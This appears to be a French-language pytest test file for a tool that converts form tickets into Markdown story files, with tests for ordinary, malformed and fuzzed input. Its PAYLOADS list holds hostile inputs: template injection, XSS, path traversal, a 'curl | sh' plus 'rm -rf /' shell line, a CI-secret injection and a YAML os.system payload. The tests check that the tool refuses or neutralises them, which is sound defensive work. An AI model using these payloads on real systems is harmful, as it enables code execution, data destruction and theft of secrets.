"""Un ticket devient un fichier valide, ou des fautes : vingt ordinaires, vingt hostiles, et hypothesis."""

import random
import re
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from macros.contributions.answers import Answers, one
from macros.contributions.choices import chosen, options
from macros.contributions.cleaning import story
from macros.contributions.measures import Refused
from macros.contributions.tickets import EMPTY, as_ticket, from_lines, from_ticket
from macros.contributions.writer import NAME, Story, compose, save
from macros.corpus.facts import Corpus
from macros.models.contribuer import Forme
from macros.reading.loading import page_source
from macros.reading.problems import Problems
from tests.contributions.test_writer import LIVE, ORDINARY, STORIES, TODAY


def labelled(corpus: Corpus, given: dict[str, str]) -> dict[str, str]:
    """Les réponses telles que la forge les écrit : des étiquettes, et toutes les cases, cochées ou non."""
    told = dict(given)
    for question in corpus.formulaire.questions:
        if question.liste is None:
            continue
        offered = options(corpus, question.liste)
        picked = given.get(question.id, "").split("\n")
        if question.forme is Forme.CHOIX:
            told[question.id] = "".join(label for value, label in offered.items() if value in picked)
        else:
            boxes = (f"- [{'x' if value in picked else ' '}] {label}" for value, label in offered.items())
            told[question.id] = "\n".join(boxes)
    return told


def body(corpus: Corpus, **changed: str) -> str:
    return as_ticket(corpus.formulaire.questions, labelled(corpus, ORDINARY | changed))


def written(corpus: Corpus, text: str) -> Story:
    return compose(from_ticket(text, corpus.formulaire), corpus, TODAY)


# --- Vingt tickets ordinaires --------------------------------------------------------------------------

HABITS = ("tel quel", "fins de ligne Windows", "espaces insécables", "intitulés en capitales", "lignes vides")
TOLD = (STORIES[0], STORIES[1], STORIES[6], STORIES[13])


def spelled(text: str, habit: str) -> str:
    """Le même ticket, écrit avec une autre habitude."""
    if habit == "fins de ligne Windows":
        return text.replace("\n", "\r\n")
    if habit == "espaces insécables":
        return re.sub(
            r"(?m)^(### .*)$", lambda found: found[1].replace(" ?", "\u00a0?").replace("'", "’"), text
        )
    if habit == "intitulés en capitales":
        return re.sub(r"(?m)^(### .*)$", lambda found: found[1].upper(), text)
    return text.replace("\n\n", "\n\n\n") if habit == "lignes vides" else text


@pytest.mark.parametrize("habit", HABITS)
@pytest.mark.parametrize("told", TOLD, ids=[told["nom"] for told in TOLD])
def test_un_ticket_ordinaire_donne_le_fichier_du_formulaire(
    corpus: Corpus, told: dict[str, str], habit: str
) -> None:
    reponses: dict[str, str] = told["reponses"]  # type: ignore[assignment]
    text = as_ticket(corpus.formulaire.questions, labelled(corpus, reponses))
    story = written(corpus, spelled(text, habit))
    assert (story.path, story.text) == (told["fichier"], told["texte"])


# --- Vingt tickets hostiles ----------------------------------------------------------------------------

PAYLOADS = (
    "{{ config }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% for x in range(10**9) %}{% endfor %}",
    "{# caché #}{% raw %}{{ 1 }}{% endraw %}",
    "<script>fetch('https://t.example')</script>",
    "<img src=x onerror=alert(1)>",
    "<!-- --><iframe srcdoc='x'></iframe>",
    "[cliquez](javascript:alert(1))",
    "![suivi](https://t.example/p.gif)",
    "Un titre {: onclick=alert(1) }",
    "---\ntitre: volé\n---",
    '"\naccord:\n  donne_le: 1900-01-01\nx: "',
    "# Autre titre\n## Le conseil\n### Titre du récit\n\nvolé",
    "### ../../../etc/passwd\n\n### constructor\n\n### __proto__",
    "../../.github/workflows/pirate",
    "$(curl t.example | sh) `id` ; rm -rf /",
    "${{ secrets.GITHUB_TOKEN }}\n::set-output name=nom::pirate",
    "\u202egnirts\u200b\u0000\ufeff\u2028<b>",
    "&#123;&#123; config &#125;&#125; &lt;script&gt;",
    "!!python/object/apply:os.system ['id'] &ancre *ancre",
)


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("field", ["titre", "contexte", "collectivite", "qui_a_aide"])
def test_un_ticket_hostile_est_inoffensif_ou_refuse(
    corpus: Corpus, tmp_path: Path, payload: str, field: str
) -> None:
    (tmp_path / "docs/retours").mkdir(parents=True)
    try:
        story = written(corpus, body(corpus, **{field: f"Un récit {payload}"}))
        save(story, tmp_path)
    except Problems as problems:
        assert problems.faults
        return
    (path,) = (path for path in tmp_path.rglob("*") if path.is_file())
    assert path.parent == tmp_path / "docs/retours"
    assert NAME.fullmatch(path.stem)
    source = page_source(path.read_text(encoding="utf-8"), story.path)
    assert LIVE.search(source.body) is None
    head = source.value
    assert isinstance(head, dict)
    assert head["accord"] == {"donne_le": head["accord"]["donne_le"], "par": "la mairie"}
    assert not set("{}<>[]`\\|") & set("".join(map(str, (head["titre"], head["collectivite"]))))


def test_un_titre_ecrit_dans_une_reponse_reste_dans_la_reponse(corpus: Corpus) -> None:
    answers = from_ticket(body(corpus, conseil="Avant.\n### Titre du récit\nAprès."), corpus.formulaire)
    assert answers.given["conseil"] == "Avant.\n### Titre du récit\nAprès."
    assert answers.given["titre"] == ORDINARY["titre"]


def test_une_reponse_vide_de_la_forge_est_une_absence(corpus: Corpus) -> None:
    answers = from_ticket(f"### Quand était-ce ?\n\n{EMPTY}\n", corpus.formulaire)
    assert answers.given == {}


def test_une_faute_dit_la_ligne_de_sa_question_dans_le_ticket(corpus: Corpus) -> None:
    text = body(corpus, date="hier")
    with pytest.raises(Problems) as caught:
        written(corpus, text)
    (problem,) = caught.value.faults
    assert text.split("\n")[problem.line - 1] == "### Quand était-ce ?"


def test_un_ticket_vide_dit_tout_ce_qui_manque(corpus: Corpus) -> None:
    with pytest.raises(Problems) as caught:
        written(corpus, "")
    assert len(caught.value.faults) == sum(question.obligatoire for question in corpus.formulaire.questions)


def test_les_aides_et_les_crochets_d_un_document_ne_sont_pas_des_reponses(corpus: Corpus) -> None:
    lines = ["Titre du récit", "Ce qui s’est passé, en une phrase courte.", "[Votre réponse]", "Un essai"]
    question = corpus.formulaire.question("titre")
    answers = from_lines(
        [lines[0], question.aide, *lines[2:]], corpus.formulaire, "f.odt", corpus.edition.nom
    )
    assert answers.given == {"titre": "Un essai"}


def test_la_note_de_fin_d_un_document_n_est_pas_une_reponse(corpus: Corpus) -> None:
    end = "Note à supprimer avant de vous servir du document"
    answers = from_lines(
        ["Qui a donné son accord ?", "la mairie", end, "Autre"],
        corpus.formulaire,
        "f.odt",
        corpus.edition.nom,
    )
    assert answers.given == {"accord_par": "la mairie"}


# --- Ce que hypothesis trouve --------------------------------------------------------------------------

PIECES = st.one_of(
    st.sampled_from(
        [
            "### ",
            "\n",
            "\r\n",
            "- [x] ",
            "_No response_",
            "Commune",
            "2026",
            "{{",
            "}}",
            "---\n",
            "../",
            "\x00",
        ]
    ),
    st.text(max_size=20),
)


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(pieces=st.lists(PIECES, max_size=30), seed=st.integers(0, 2**16))
def test_aucun_ticket_ne_leve_autre_chose_que_nos_fautes(
    corpus: Corpus, tmp_path: Path, pieces: list[str], seed: int
) -> None:
    (tmp_path / "docs/retours").mkdir(parents=True, exist_ok=True)
    heads = [f"### {question.etiquette}\n" for question in corpus.formulaire.questions]
    mixed = [*pieces, *heads, *ORDINARY.values()]
    random.Random(seed).shuffle(mixed)
    for text in ("".join(pieces), "\n".join(mixed), body(corpus, contexte="".join(pieces))):
        try:
            save(written(corpus, text), tmp_path)
        except Problems as problems:
            assert problems.faults
    for path in tmp_path.rglob("*"):
        if path.is_file():
            assert path.parent == tmp_path / "docs/retours"
            path.unlink()


@settings(max_examples=300, deadline=None)
@given(st.one_of(st.text(), st.text(alphabet="-:#\n\t \"'{}[]&*!|>%@`,?~ab01é\u0085\ufeff")))
def test_l_en_tete_d_une_page_ne_leve_que_nos_fautes(text: str) -> None:
    for page in (text, f"---\n{text}\n---\n", f"---\ntitre: {text}\n---\n# x"):
        try:
            page_source(page, "docs/retours/essai.md")
        except Problems as problems:
            assert problems.faults


def test_une_porte_sans_lignes_accuse_la_premiere(corpus: Corpus) -> None:
    with pytest.raises(Problems) as caught:
        compose(Answers("réponses", {}), corpus, TODAY)
    assert {problem.line for problem in caught.value.faults} == {1}


@pytest.mark.parametrize(
    ("field", "said"), [("accord_le", "01/01/2031"), ("date", "2031"), ("date", "12/2026")]
)
def test_un_jour_a_venir_est_refuse(corpus: Corpus, field: str, said: str) -> None:
    with pytest.raises(Problems, match="ce jour n'est pas encore venu"):
        written(corpus, body(corpus, **{field: said}))


BOXES = (
    "X Commune",
    "x Commune",
    "☒ Commune",
    "☐ X Commune",
    "☐ Commune X",
    "Commune X",
    "X ☐ Commune",
    "☐X Commune",
)


@pytest.mark.parametrize(
    "line", [*BOXES, "☐X Commune", "[X] Commune", "[ ] X Commune", "- [x] Commune", "( ) Commune x"]
)
def test_une_croix_compte_avant_comme_apres_la_case(corpus: Corpus, line: str) -> None:
    lines = ["Sorte de collectivité", line, "☐ Région", "[ ] Département"]
    answers = from_lines(lines, corpus.formulaire, "f.odt", corpus.edition.nom)
    question = corpus.formulaire.question("structure")
    assert one(question, answers.given["structure"], corpus) == "commune"


def test_une_liste_que_personne_n_a_cochee_n_est_pas_toute_choisie(corpus: Corpus) -> None:
    """Un traitement de texte qui perd les cases laisserait croire que tous les sujets sont choisis."""
    question = corpus.formulaire.question("themes")
    assert question.liste is not None
    labels = "\n".join(options(corpus, question.liste).values())
    with pytest.raises(Refused, match="toutes les lignes sont choisies"):
        one(question, labels, corpus)


@pytest.mark.parametrize("said", ["Creuse", "La Creuse", "la creuse", "23", "23 - Creuse", "Creuse (23)"])
def test_un_departement_se_dit_de_toutes_les_facons(corpus: Corpus, said: str) -> None:
    assert one(corpus.formulaire.question("departement"), said, corpus) == "23"


def test_des_questions_dans_un_autre_ordre_donnent_le_meme_fichier(corpus: Corpus) -> None:
    """Un ticket ouvert avant un changement d'ordre, ou recopié à la main, dit la même chose."""
    text = body(corpus)
    first, *sections = re.split(r"(?m)^(?=### )", text)
    for order in (sections[::-1], [*sections[1::2], *sections[::2]]):
        mixed = first + "".join(f"{section.rstrip()}\n\n" for section in order)
        assert written(corpus, mixed) == written(corpus, text)


def test_toutes_les_cases_cochees_se_refusent(corpus: Corpus) -> None:
    """Trente sujets pour un seul récit : quelqu'un a laissé la liste entière."""
    text = re.sub(r"(?m)^- \[ \] ", "- [x] ", body(corpus))
    with pytest.raises(Problems) as refused:
        written(corpus, text)
    assert any("toutes les lignes sont choisies" in fault.message for fault in refused.value.faults)


@pytest.mark.parametrize(
    ("said", "expected"),
    [
        ("Commune nouvelle", "commune"),
        ("La mairie", "commune"),
        ("CCAS", "commune"),
        ("CIAS", "groupement_de_communes"),
        ("EPCI", "groupement_de_communes"),
        ("Métropole", "groupement_de_communes"),
        ("Syndicat mixte", "syndicat"),
    ],
)
def test_une_collectivite_se_dit_de_toutes_les_facons(corpus: Corpus, said: str, expected: str) -> None:
    assert chosen(corpus.formulaire.question("structure"), said, corpus) == expected


@pytest.mark.parametrize(
    ("pasted", "kept"),
    [
        ("Avant ![image](https://t.example/a.png) après", "Avant (image retirée) après"),
        ('Avant <img width="3" src="https://t.example/a.png"> après', "Avant (image retirée) après"),
        ("Avant <!-- à effacer\nsur deux lignes --> après", "Avant après"),
        ("<b>Avant</b>, puis <br/>après", "Avant, puis après"),
        ("| Avant | Après |\n|---|:--:|\n| 2 h | 1 h |", "Avant / Après\n2 h / 1 h"),
        ("Écrivez <nom du logiciel> ici, si a < b", "Écrivez ‹nom du logiciel› ici, si a ‹ b"),
    ],
)
def test_ce_qu_un_copier_coller_apporte_ne_reste_pas(pasted: str, kept: str) -> None:
    assert story(pasted) == kept
